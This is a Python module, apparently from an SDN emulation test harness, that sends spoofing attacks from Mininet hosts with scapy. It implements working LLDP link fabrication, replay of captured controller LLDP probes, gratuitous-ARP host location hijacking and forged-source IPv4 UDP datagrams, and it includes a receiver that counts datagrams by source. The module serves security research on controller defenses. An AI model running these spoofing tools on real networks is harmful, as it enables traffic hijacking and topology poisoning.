"""Spoofing attacks from a Mininet host, sent with scapy: the two of TopoGuard (NDSS 2015)
against discovery, and a forged IPv4 source. Run inside a host (``host.popen``), with the
venv's Python:

    python -m emulation.harness.attacks lldp --iface h1_1-eth0 --dpid 0x20001 --port 3 --rate 10 --duration 5
    python -m emulation.harness.attacks lldp-replay --iface h3_1-eth0 --wait 5 --rate 10 --duration 3
    python -m emulation.harness.attacks garp --iface h2_1-eth0 --ip 10.0.1.1 --rate 2 --duration 5
    python -m emulation.harness.attacks ipv4 --iface h0_1-eth0 --src 10.0.2.1 --dst 10.0.1.1 --dst-mac MAC
    python -m emulation.harness.attacks udp-count --port 5999 --duration 10

``lldp``: link fabrication, LLDP frames in the controller's own layout (chassis
``dpid:%016x``, port id the 32-bit port number) claiming that they come from switch port
(dpid, port), unsigned. ``lldp-replay``: waits for one of the controller's (signed) probes on
the interface and sends it back, again and again. ``garp``: host location hijacking,
gratuitous ARP (request and reply) saying that ``--ip`` is at this host's MAC. ``ipv4``: a
forged source, UDP datagrams of ``--size`` bytes from ``--src`` (another host's address) to
``--dst`` at ``--dst-mac``, port ``--dport``. Each prints one JSON line: what it sent.
``udp-count``, on the receiving host: the UDP datagrams to ``--port`` for ``--duration``
seconds, counted by source address (one JSON line).
"""
from __future__ import annotations

import argparse
import json
import struct
import sys
import time

LLDP_MULTICAST = "01:80:c2:00:00:0e"


def lldp_frames(dpid: int, port: int, mac: str):
    from scapy.contrib.lldp import LLDPDUChassisID, LLDPDUEndOfLLDPDU, LLDPDUPortID, LLDPDUTimeToLive
    from scapy.layers.l2 import Ether
    return [Ether(dst=LLDP_MULTICAST, src=mac, type=0x88CC)
            / LLDPDUChassisID(subtype=7, id=b"dpid:%016x" % dpid)
            / LLDPDUPortID(subtype=2, id=struct.pack("!I", port))
            / LLDPDUTimeToLive(ttl=120) / LLDPDUEndOfLLDPDU()]


def garp_frames(ip: str, mac: str):
    from scapy.layers.l2 import ARP, Ether
    return [Ether(dst="ff:ff:ff:ff:ff:ff", src=mac)
            / ARP(op=op, hwsrc=mac, psrc=ip, hwdst="00:00:00:00:00:00" if op == 1 else
                  "ff:ff:ff:ff:ff:ff", pdst=ip) for op in (1, 2)]


def ipv4_frames(src: str, dst: str, mac: str, dst_mac: str, dport: int, size: int):
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import Ether
    from scapy.packet import Raw
    return [Ether(dst=dst_mac, src=mac) / IP(src=src, dst=dst) / UDP(sport=dport, dport=dport)
            / Raw(b"\0" * max(0, size - 28))]


def udp_count(port: int, duration: float) -> dict:
    """Datagrams to ``port`` by source address, for ``duration`` seconds."""
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("0.0.0.0", port))
    sock.settimeout(0.2)
    got: dict[str, int] = {}
    end = time.monotonic() + duration
    try:
        while time.monotonic() < end:
            try:
                _data, (src, _p) = sock.recvfrom(65535)
            except TimeoutError:
                continue
            got[src] = got.get(src, 0) + 1
    finally:
        sock.close()
    return got


def captured_probe(iface: str, wait: float):
    """The first LLDP frame that arrives on ``iface`` within ``wait`` seconds, or None."""
    from scapy.all import sniff
    got = sniff(iface=iface, count=1, timeout=wait, filter="ether proto 0x88cc")
    return got[0] if got else None


def send(iface: str, frames, rate: float, duration: float) -> int:
    """Send ``frames`` (one batch) ``rate`` times a second for ``duration`` seconds."""
    from scapy.all import conf
    sock = conf.L2socket(iface=iface)
    sent, start = 0, time.monotonic()
    try:
        k = 0
        while time.monotonic() - start < duration:
            for f in frames:
                sock.send(f)
                sent += 1
            k += 1
            time.sleep(max(0.0, start + k / rate - time.monotonic()))
    finally:
        sock.close()
    return sent


def mac_of(iface: str) -> str:
    with open(f"/sys/class/net/{iface}/address") as fh:
        return fh.read().strip()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m emulation.harness.attacks", description=__doc__.split(
        "\n\n")[0])
    sub = ap.add_subparsers(dest="attack", required=True)
    count = sub.add_parser("udp-count")
    count.add_argument("--port", type=int, required=True)
    count.add_argument("--duration", type=float, default=10.0, help="seconds")
    for name in ("lldp", "lldp-replay", "garp", "ipv4"):
        p = sub.add_parser(name)
        p.add_argument("--iface", required=True)
        p.add_argument("--rate", type=float, default=10.0, help="batches per second")
        p.add_argument("--duration", type=float, default=5.0, help="seconds")
        if name == "lldp":
            p.add_argument("--dpid", type=lambda s: int(s, 0), required=True)
            p.add_argument("--port", type=int, required=True)
        if name == "lldp-replay":
            p.add_argument("--wait", type=float, default=5.0,
                           help="seconds to wait for a probe to capture")
        if name == "garp":
            p.add_argument("--ip", required=True, help="the address to claim")
        if name == "ipv4":
            p.add_argument("--src", required=True, help="the source address to send from")
            p.add_argument("--dst", required=True)
            p.add_argument("--dst-mac", required=True)
            p.add_argument("--dport", type=int, default=5999)
            p.add_argument("--size", type=int, default=1400, help="IPv4 bytes a datagram")
    args = ap.parse_args(argv)
    if args.attack == "udp-count":
        print(json.dumps({"attack": args.attack, "port": args.port,
                          "received": udp_count(args.port, args.duration)}))
        return 0
    if args.rate <= 0 or args.duration < 0:
        ap.error("--rate must be positive and --duration not negative")
    mac = mac_of(args.iface)
    if args.attack == "lldp":
        frames = lldp_frames(args.dpid, args.port, mac)
    elif args.attack == "garp":
        frames = garp_frames(args.ip, mac)
    elif args.attack == "ipv4":
        frames = ipv4_frames(args.src, args.dst, mac, args.dst_mac, args.dport, args.size)
    else:
        probe = captured_probe(args.iface, args.wait)
        if probe is None:
            print(json.dumps({"attack": args.attack, "error": "no probe captured"}))
            return 1
        frames = [probe]
    sent = send(args.iface, frames, args.rate, args.duration)
    print(json.dumps({"attack": args.attack, "iface": args.iface, "mac": mac, "sent": sent}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
